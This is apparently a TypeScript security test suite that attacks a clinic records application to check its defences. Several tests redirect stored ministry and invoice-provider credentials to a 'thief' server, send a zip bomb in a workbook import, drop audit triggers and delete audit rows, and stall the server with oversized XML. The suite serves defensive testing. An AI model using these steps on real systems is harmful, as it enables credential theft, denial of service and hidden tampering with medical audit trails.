import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { readTypedKey } from '../../src/core/keys/recovery-key.ts'
import { openConnection, STORE_FILE } from '../../src/core/store/connection.sqlite.ts'
import { unlockWith } from '../../src/host/store-key/store-key.ts'
import { aPatient } from '../support/fixtures.ts'
import { HostFacts } from '../support/host-facts.ts'
import { manyAttributes } from '../support/rips-xml.ts'
import { thief } from '../support/thief.ts'
import { archiveOf, bombOf, entryOf, workbookOf } from '../support/zip.ts'
import { type Attack, type OnVictim, onOwnVictim, onProgram, onVictim } from './attack.ts'
import {
  ADMIN_PHONE,
  host,
  keyed,
  member,
  PASSPHRASE,
  PASSWORD,
  signIn,
  stopped,
  type Target,
  type Victim,
  victim,
} from './target.ts'

const SECRET = 'solo-la-sabe-la-clinica'
const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64')

const stolenFromMinistry: OnVictim = async ({ ask, ws, token }) => {
  const their = await thief()
  const path = `${ws}/connections/ministry`
  const account = { documentType: 'CC', documentNumber: '52000001', userType: 'RE' }
  const put = (body: object) => ask('PUT', path, { token, body: { ...account, ...body } })
  await put({ baseUrl: 'https://127.0.0.1:9', certificateSha256: 'a'.repeat(64), password: SECRET })
  await put({ baseUrl: their.tls, certificateSha256: their.certificateSha256 })
  await ask('POST', `${path}/test`, { token })
  their.close()
  return their.told().includes(SECRET)
}

const stolenFromProvider: OnVictim = async ({ ask, ws, token }) => {
  const their = await thief()
  const path = `${ws}/connections/invoice-provider`
  const factus = { provider: 'factus', username: 'a@clinica.test', clientId: 'clinica' }
  const put = (body: object) => ask('PUT', path, { token, body: { ...factus, ...body } })
  await put({ baseUrl: 'https://127.0.0.1:9', clientSecret: SECRET, password: SECRET })
  await put({ baseUrl: their.plain })
  await ask('POST', `${path}/test`, { token })
  their.close()
  return their.told().includes(SECRET)
}

/** Of the whole life of the process, in bytes. */
export const mostMemory = async ({ program }: Target) =>
  Number(/VmHWM:\s+(\d+)/.exec(await readFile(`/proc/${program.child.pid}/status`, 'utf8'))?.[1]) * 1024

const BOMB_BLOCKS = 48
const workbookBomb: OnVictim = async (at) => {
  const bomb = bombOf('xl/media/image1.bin', BOMB_BLOCKS)
  const entries = Object.entries(workbookOf('')).map(([name, content]) => entryOf(name, content))
  const body = { area: 'patients', fileName: 'p.xlsx', contentBase64: base64(archiveOf([...entries, bomb])) }
  const before = await mostMemory(at)
  await at.ask('POST', `${at.ws}/imports`, { token: at.token, body, headers: keyed() })
  return (await mostMemory(at)) - before > bomb.bytes / 2
}

export async function dataKey({ ask, token, dataDir }: Victim): Promise<Uint8Array> {
  const shown = await ask('POST', '/api/v1/recovery-key', { token, body: { currentPassword: PASSWORD } })
  const printed = readTypedKey(((shown.json.groups ?? []) as string[]).join(' '))
  if ('key' in printed && opens(dataDir, printed.key)) return printed.key
  return (await unlockWith(dataDir, PASSPHRASE)).key
}

function opens(dataDir: string, key: Uint8Array): boolean {
  try {
    openConnection(join(dataDir, STORE_FILE), key, true).close()
    return true
  } catch {
    return false
  }
}

/** Patients that the trail tells of, so that there is something to cut off. */
async function aPast({ ask, ws, token }: Victim, patients: number): Promise<void> {
  for (let i = 0; i < patients; i++) {
    await ask('POST', `${ws}/patients`, { token, body: aPatient(), headers: keyed() })
  }
}

const trailCut =
  (program: string): OnVictim =>
  async (at) => {
    await aPast(at, 20)
    const key = await dataKey(at)
    await stopped(at)
    const file = openConnection(join(at.dataDir, STORE_FILE), key)
    for (const guard of ['audit_events_are_final', 'audit_events_stay']) file.exec(`DROP TRIGGER ${guard}`)
    file.exec('DELETE FROM audit_events WHERE sequence > (SELECT max(sequence) - 8 FROM audit_events)')
    file.close()
    const again = await host(program, { dataDir: at.dataDir })
    const token = await signIn(again, ADMIN_PHONE, PASSWORD)
    const verdict = async () => (await again.ask('GET', `${at.ws}/audit-trail`, { token })).json.status
    for (let tries = 0; (await verdict()) === 'checking' && tries < 100; tries++) await sleep(100)
    return (await verdict()) !== 'broken'
  }

const untracedRead: OnVictim = async (at) => {
  const { ask, ws, token } = at
  const { json } = await ask('POST', `${ws}/patients`, { token, body: aPatient(), headers: keyed() })
  const viewer = await member(at, 'viewer')
  await ask('GET', `${ws}/patients/${json.id}`, { token: viewer.token })
  await sleep(3_000)
  const { text } = await ask('GET', `${ws}/audit-events?limit=100`, { token })
  return !text.includes('"patients.get"')
}

const viewerExports: OnVictim = async (at) => {
  await aPast(at, 3)
  const viewer = await member(at, 'viewer')
  const taken = await at.ask('GET', `${at.ws}/exports/patients?format=csv`, { token: viewer.token })
  return taken.status === 200 && taken.text.includes('Ceiba')
}

const STALL_S = 2
/** The longest that the thread which answers works while somebody else waits, in its own time: a busy machine adds to the other. */
const stalled: OnVictim = async ({ ask, ws, token, program }) => {
  const facts = new HostFacts(program.child.pid ?? 0)
  const contentBase64 = base64(manyAttributes())
  const body = { kind: 'invoice', rips: { usuarios: [] }, attachedDocument: { fileName: 'a.xml', contentBase64 } }
  let over = false
  // A machine that has no time for it may break the connection off: what counts is who waits meanwhile.
  const sent = ask('POST', `${ws}/rips-packages`, { token, body, headers: keyed() })
    .catch(() => undefined)
    .finally(() => {
      over = true
    })
  let longest = 0
  while (!over) {
    const began = facts.threadSeconds()
    // One that is kept waiting for half a minute may lose its connection.
    await ask('GET', '/api/v1/health').catch(() => undefined)
    longest = Math.max(longest, facts.threadSeconds() - began)
    await sleep(10)
  }
  await sent
  return longest > STALL_S
}

const sheetIsKey: OnVictim = async ({ ask, token, dataDir }) => {
  const { json } = await ask('POST', '/api/v1/recovery-key', { token, body: { currentPassword: PASSWORD } })
  const printed = readTypedKey(((json.groups ?? []) as string[]).join(' '))
  if (!('key' in printed)) throw new Error('no sheet')
  return opens(dataDir, printed.key)
}

export const ON_DATA: readonly Attack[] = [
  onVictim(1, "the ministry's password is sent to another server", stolenFromMinistry),
  onVictim(1, "the provider's password is sent elsewhere over plain HTTP", stolenFromProvider),
  onOwnVictim(2, 'a workbook of under a megabyte takes hundreds of memory', workbookBomb),
  onProgram(3, 'the last events are cut off, and nobody says so', async (program) =>
    trailCut(program)(await victim(program)),
  ),
  onVictim(4, 'a patient is read without a trace', untracedRead),
  onVictim(4, 'a viewer takes all patients away', viewerExports),
  onVictim(9, 'a million attributes keep everybody waiting', stalled),
  onVictim(13, 'the printed sheet is the key of the data', sheetIsKey),
]
